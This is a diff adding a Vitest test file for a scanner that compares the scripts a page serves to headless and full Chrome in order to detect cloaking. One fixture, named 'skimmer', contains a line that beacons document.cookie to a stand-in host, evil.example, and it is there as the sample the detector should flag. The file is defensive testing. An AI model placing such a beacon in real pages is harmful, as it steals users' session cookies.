@@ -1,0 +1,137 @@
+import { describe, expect, it } from 'vitest'
+import type { Capture } from '#capture/index.ts'
+import { compareVisits, type FurtherVisits, type Visit } from '#report/index.ts'
+import { judge, of } from '../helpers/judge.ts'
+import { makeBodies, makeCapture, makeScript } from '../helpers/make-capture.ts'
+
+const app = { url: 'https://shop.example/app.js', text: 'document.title = "Pay"' }
+const skimmer = { url: 'https://evil.example/x.js', text: 'navigator.sendBeacon("https://evil.example", document.cookie)' }
+
+type Kind = 'shell' | 'full'
+type Script = Parameters<typeof makeScript>[1]
+
+function visit(kind: Kind, scripts: Script[], given: Partial<Capture> = {}): Visit {
+  const bodies = makeBodies()
+  const product = kind === 'full' ? 'Chrome' : 'Chromium headless shell'
+  const browser = { ...makeCapture().browser, product, headless: kind }
+  return { capture: makeCapture({ browser, ...given, scripts: scripts.map((script) => makeScript(bodies, script)) }), bodies }
+}
+
+const outcome = (status: 'partial' | 'failed', code: 'timeout' | 'dns-failed', detail = '') => ({
+  outcome: { status, code, detail, issues: [{ code, detail, frameId: null, atMs: 9 }] },
+})
+const failing = (kind: Kind) => visit(kind, [], outcome('failed', 'timeout', '45 s'))
+
+/** Further visits that give what is given, in order; one that is not given must not be asked for. */
+function further(other?: Visit | { none: string }, again?: Visit) {
+  const asked: string[] = []
+  const visits: FurtherVisits = {
+    async other(fullChrome) {
+      asked.push(fullChrome ? 'full' : 'shell')
+      if (!other) throw new Error('no second visit was due')
+      return other
+    },
+    async again() {
+      asked.push('again')
+      if (!again) throw new Error('no third visit was due')
+      return again
+    },
+  }
+  return { asked, visits }
+}
+
+describe('the comparison of visits', () => {
+  it('says with which browser it compared, and makes no third visit when the two are alike', async () => {
+    const { asked, visits } = further(visit('full', [app]))
+    expect(await compareVisits(visit('shell', [app]), visits)).toEqual({
+      differences: [],
+      cloakCheck: { state: 'compared', detail: 'Compared with a visit in Chrome 156.0.0.0 (full browser).' },
+    })
+    expect(asked).toEqual(['full'])
+  })
+
+  it('reports what only the other browser was given, after a third visit by the first kind', async () => {
+    const { asked, visits } = further(visit('full', [app, skimmer]), visit('shell', [app]))
+    const { differences, cloakCheck } = await compareVisits(visit('shell', [app]), visits)
+    expect(differences).toMatchObject([{ seenBy: 'second', label: expect.stringContaining('evil.example/x.js') }])
+    expect(cloakCheck.state).toBe('compared')
+    expect(asked).toEqual(['full', 'again'])
+  })
+
+  it('takes no chance for cloaking: what the first browser got on its other visit does not count', async () => {
+    const { visits } = further(visit('full', [app, skimmer]), visit('shell', [app, skimmer]))
+    expect(await compareVisits(visit('shell', [app]), visits)).toMatchObject({ differences: [], cloakCheck: { state: 'compared' } })
+  })
+
+  it('asks a shell for the second visit when the first was made in a full browser', async () => {
+    const { asked, visits } = further(visit('shell', [app]))
+    expect((await compareVisits(visit('full', [app]), visits)).cloakCheck).toEqual({
+      state: 'compared',
+      detail: 'Compared with a visit in Chromium headless shell 156.0.0.0.',
+    })
+    expect(asked).toEqual(['shell'])
+  })
+
+  it.each(['full', 'shell'] as const)('never compares a %s browser with one of its own kind', async (kind) => {
+    const { visits } = further(visit(kind, [app]))
+    expect(await compareVisits(visit(kind, [app]), visits)).toEqual({
+      differences: null,
+      cloakCheck: { state: 'no-other-browser', detail: expect.stringContaining('the same kind of browser') },
+    })
+  })
+
+  it('keeps the sentence on why there is no other browser', async () => {
+    const { visits } = further({ none: 'No full Chrome or Chromium was found.' })
+    expect(await compareVisits(visit('shell', [app]), visits)).toEqual({
+      differences: null,
+      cloakCheck: { state: 'no-other-browser', detail: 'No full Chrome or Chromium was found.' },
+    })
+  })
+
+  it('visits no further after a first visit that failed', async () => {
+    const { asked, visits } = further()
+    expect(await compareVisits(failing('shell'), visits)).toMatchObject({
+      differences: null,
+      cloakCheck: { state: 'first-visit-failed' },
+    })
+    expect(asked).toEqual([])
+  })
+
+  it('concludes nothing from a second visit that failed, and says why it did', async () => {
+    const { asked, visits } = further(failing('full'))
+    expect(await compareVisits(visit('shell', [app]), visits)).toEqual({
+      differences: null,
+      cloakCheck: {
+        state: 'second-visit-failed',
+        detail: 'The visit in Chrome 156.0.0.0 (full browser) gave nothing: The scan reached its time limit. (45 s)',
+      },
+    })
+    expect(asked).toEqual(['full'])
+  })
+
+  it('concludes nothing from a difference when the third visit failed or was made in the other kind of browser', async () => {
+    for (const third of [failing('shell'), visit('full', [app, skimmer])]) {
+      const { visits } = further(visit('full', [app, skimmer]), third)
+      expect(await compareVisits(visit('shell', [app]), visits)).toMatchObject({
+        differences: null,
+        cloakCheck: { state: 'third-visit-failed', detail: expect.stringMatching(/^A third visit, /) },
+      })
+    }
+  })
+
+  it('says so when a part of the second visit is missing', async () => {
+    const { visits } = further(visit('full', [app], outcome('partial', 'timeout')))
+    expect((await compareVisits(visit('shell', [app]), visits)).cloakCheck.detail).toMatch(
+      /A part of that visit is missing: The scan reached its time limit\.$/,
+    )
+  })
+
+  it('stands in the result beside the findings that it gave, and nowhere when it was not made', async () => {
+    const first = visit('shell', [app])
+    const comparison = await compareVisits(first, further(visit('full', [app, skimmer]), visit('shell', [app])).visits)
+    const result = judge(first.capture, first.bodies, { comparison })
+    expect(result.cloakCheck).toEqual(comparison.cloakCheck)
+    expect(of(result, 'inventory-differs-by-client')).toMatchObject([{ severity: 'medium', params: { seenBy: 'second' } }])
+    expect(judge(first.capture, first.bodies)).not.toHaveProperty('cloakCheck')
+  })
+})
